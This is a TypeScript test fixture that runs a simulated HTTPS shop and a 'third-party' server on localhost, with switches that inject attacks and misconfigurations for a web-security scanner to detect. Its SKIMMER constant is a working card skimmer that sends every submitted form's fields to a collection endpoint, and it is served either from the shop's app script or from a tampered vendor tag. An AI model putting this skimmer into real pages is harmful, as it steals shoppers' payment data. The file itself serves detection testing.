import https from "node:https";
import type { IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { closeSimulator, simulatorListener, type SimHttpResponse } from "../http.ts";
import { selfSignedCertificate, type SelfSignedCertificate } from "../microsoft/certificate.ts";

/**
 * A simulated online shop over HTTPS: the shop's own origin (checkout page, its scripts, the
 * admin login) and a second origin standing for a third party (an analytics vendor, or an
 * attacker's collection server). Switches set what the attacks and mistakes of issue 16 look
 * like on the wire; tests and the demo flip them between scans.
 */
export interface ShopSwitches {
  /** A card skimmer appended to the shop's own `/js/app.js`. */
  skimmer: boolean;
  /** A script from the third-party origin added to the checkout page. */
  newThirdPartyScript: boolean;
  /** A new file from the shop's own origin added to the checkout page. */
  newFirstPartyScript: boolean;
  /** An inline script on the checkout page rewritten. */
  inlineChanged: boolean;
  /** The card form posts to the third-party origin. */
  formToOtherOrigin: boolean;
  dropCsp: boolean;
  dropHsts: boolean;
  /** The certificate the shop presents. */
  certificate: "valid" | "expiring" | "expired";
  /** The admin login answers anyone (otherwise 403, as if restricted by address). */
  openAdmin: boolean;
  /** TLS 1.0 and 1.1 accepted. */
  legacyTls: boolean;
  /** Server software and versions in the headers and a generator tag. */
  disclosesVersion: boolean;
  /** The checkout page never answers. */
  hangPage: boolean;
  /** `/js/cart.js` answers 404. */
  missingScript: boolean;
  /** The checkout page is larger than any page cloud15 reads. */
  oversizedPage: boolean;
  /**
   * A tag manager on the checkout page: its `/js/tags.js` adds the third party's `/js/tag.js`
   * when the page runs, so only a browser (`render`) sees that script.
   */
  tagManager: boolean;
  /** The third party's `/js/tag.js`, loaded by the tag manager, changed (a compromised vendor). */
  tagChanged: boolean;
}

export const SAFE_SHOP: ShopSwitches = {
  skimmer: false, newThirdPartyScript: false, newFirstPartyScript: false, inlineChanged: false, formToOtherOrigin: false,
  dropCsp: false, dropHsts: false, certificate: "valid", openAdmin: false, legacyTls: false, disclosesVersion: false,
  hangPage: false, missingScript: false, oversizedPage: false, tagManager: false, tagChanged: false,
};

export interface SimulatedShop {
  /** `https://127.0.0.1:PORT` */
  shopOrigin: string;
  thirdPartyOrigin: string;
  checkoutUrl: string;
  adminUrl: string;
  /** PEM of every certificate the servers may present: what the scanner trusts in place of public CAs. */
  caCertificatePem: string;
  /** Live: change with `set`, effective from the next request. */
  switches: ShopSwitches;
  set(changes: Partial<ShopSwitches>): void;
  /** Requests by path, both origins. */
  requests: Record<string, number>;
  stop(): Promise<void>;
}

const HOST = "127.0.0.1";
const DAY = 86_400_000;

export const APP_JS = "document.querySelector('#card-form').addEventListener('submit', function () { /* validates the form */ });\n";
export const CART_JS = "window.cart = { items: [], total: 0 };\n";
export const TAG_JS = "window.dataLayer = window.dataLayer || [];\n";
const SKIMMER = "document.addEventListener('submit',function(e){var d=new FormData(e.target);navigator.sendBeacon('{third}/collect',JSON.stringify(Object.fromEntries(d)));});\n";

export async function startSimulatedShop(initial: Partial<ShopSwitches> = {}): Promise<SimulatedShop> {
  const certificateFor = (now: Date, validDays: number): SelfSignedCertificate =>
    selfSignedCertificate({ commonName: "shop.example.jp", altNames: [HOST, "localhost"], validDays, now });
  const now = Date.now();
  const certificates: Record<ShopSwitches["certificate"], SelfSignedCertificate> = {
    valid: certificateFor(new Date(now), 200),
    expiring: certificateFor(new Date(now), 10),
    expired: certificateFor(new Date(now - 60 * DAY), 30),
  };
  const switches: ShopSwitches = { ...SAFE_SHOP, ...initial };
  const requests: Record<string, number> = {};
  let shopOrigin = "";
  let thirdPartyOrigin = "";

  const context = () => ({
    key: certificates[switches.certificate].keyPem,
    cert: certificates[switches.certificate].certPem,
    // OpenSSL 3 refuses TLS 1.0/1.1 at its default security level; an old server still speaks them.
    ...(switches.legacyTls ? { minVersion: "TLSv1" as const, ciphers: "DEFAULT@SECLEVEL=0" } : { minVersion: "TLSv1.2" as const }),
  });

  const shop = https.createServer(context(), simulatorListener(async (req) => {
    const path = pathOf(req);
    requests[path] = (requests[path] ?? 0) + 1;
    return shopAnswer(path);
  }));
  const thirdParty = https.createServer({ key: certificates.valid.keyPem, cert: certificates.valid.certPem }, simulatorListener(async (req) => {
    const path = pathOf(req);
    requests[`third${path}`] = (requests[`third${path}`] ?? 0) + 1;
    if (path === "/js/analytics.js") return script("window.analytics = { track: function () {} };\n");
    if (path === "/js/tag.js") return script(switches.tagChanged ? TAG_JS + SKIMMER.replace("{third}", thirdPartyOrigin) : TAG_JS);
    if (path === "/card-frame") return html("<form><input name=card></form>");
    if (path === "/collect") return { status: 204, headers: {}, body: "" };
    return notFound();
  }));

  function shopAnswer(path: string): SimHttpResponse | undefined {
    if (path === "/checkout") {
      if (switches.hangPage) return undefined;
      return { status: 200, headers: pageHeaders(), body: switches.oversizedPage ? checkoutPage() + "<!--" + "x".repeat(3 * 1024 * 1024) + "-->" : checkoutPage() };
    }
    if (path === "/" ) return { status: 302, headers: { location: "/checkout" }, body: "" };
    if (path === "/js/app.js") return script(switches.skimmer ? APP_JS + SKIMMER.replace("{third}", thirdPartyOrigin) : APP_JS);
    if (path === "/js/cart.js") return switches.missingScript ? notFound() : script(CART_JS);
    if (path === "/js/coupon.js") return script("window.coupon = null;\n");
    if (path === "/js/tags.js") return script(`(function () { var s = document.createElement("script"); s.src = "${thirdPartyOrigin}/js/tag.js"; document.head.appendChild(s); })();\n`);
    if (path === "/admin/") {
      return switches.openAdmin
        ? { status: 200, headers: pageHeaders(), body: "<!doctype html><title>管理画面ログイン</title><form method=post action=/admin/login><input name=login_id><input type=password name=password></form>" }
        : { status: 403, headers: { "content-type": "text/plain" }, body: "Forbidden" };
    }
    return notFound();
  }

  function pageHeaders(): Record<string, string> {
    return {
      "content-type": "text/html; charset=utf-8",
      ...(switches.dropCsp ? {} : { "content-security-policy": `script-src 'self'${switches.tagManager ? ` ${thirdPartyOrigin}` : ""}; frame-src ${thirdPartyOrigin}; object-src 'none'` }),
      ...(switches.dropHsts ? {} : { "strict-transport-security": "max-age=31536000; includeSubDomains" }),
      server: switches.disclosesVersion ? "Apache/2.4.41 (Ubuntu)" : "Apache",
      ...(switches.disclosesVersion ? { "x-powered-by": "PHP/7.4.3" } : {}),
    };
  }

  function checkoutPage(): string {
    const scripts = [
      `<script src="/js/app.js"></script>`,
      `<script src="/js/cart.js"></script>`,
      switches.newFirstPartyScript ? `<script src="/js/coupon.js"></script>` : "",
      switches.newThirdPartyScript ? `<script src="${thirdPartyOrigin}/js/analytics.js"></script>` : "",
      switches.tagManager ? `<script src="/js/tags.js"></script>` : "",
      `<script>window.shopConfig = { currency: "JPY", ${switches.inlineChanged ? 'debug: true' : 'debug: false'} };</script>`,
      `<script type="application/ld+json">{"@type":"Product","price":${Math.floor(Math.random() * 1000)}}</script>`,
    ].join("\n");
    const action = switches.formToOtherOrigin ? `${thirdPartyOrigin}/collect` : "/checkout/confirm";
    return `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>ご注文手続き</title>
<meta name="generator" content="${switches.disclosesVersion ? "EC-CUBE 4.2.1" : "EC-CUBE"}">
${scripts}</head><body>
<form id="card-form" method="post" action="${action}"><input name="card_number"><input name="expiry"><button>注文する</button></form>
<iframe src="${thirdPartyOrigin}/card-frame" title="card"></iframe>
</body></html>`;
  }

  const listen = (server: https.Server) => new Promise<number>((resolve) => {
    server.listen(0, HOST, () => resolve((server.address() as AddressInfo).port));
  });
  shopOrigin = `https://${HOST}:${await listen(shop)}`;
  thirdPartyOrigin = `https://${HOST}:${await listen(thirdParty)}`;

  return {
    shopOrigin,
    thirdPartyOrigin,
    checkoutUrl: `${shopOrigin}/checkout`,
    adminUrl: `${shopOrigin}/admin/`,
    caCertificatePem: Object.values(certificates).map((c) => c.certPem).join(""),
    switches,
    requests,
    set(changes) {
      const tlsBefore = [switches.certificate, switches.legacyTls].join();
      Object.assign(switches, changes);
      if ([switches.certificate, switches.legacyTls].join() !== tlsBefore) shop.setSecureContext(context());
    },
    async stop() {
      await Promise.all([closeSimulator(shop), closeSimulator(thirdParty)]);
    },
  };
}

function pathOf(req: IncomingMessage): string {
  return new URL(req.url ?? "/", "https://shop").pathname;
}

function script(body: string): SimHttpResponse {
  return { status: 200, headers: { "content-type": "application/javascript" }, body };
}

function html(body: string): SimHttpResponse {
  return { status: 200, headers: { "content-type": "text/html; charset=utf-8" }, body };
}

function notFound(): SimHttpResponse {
  return { status: 404, headers: { "content-type": "text/plain" }, body: "Not Found" };
}
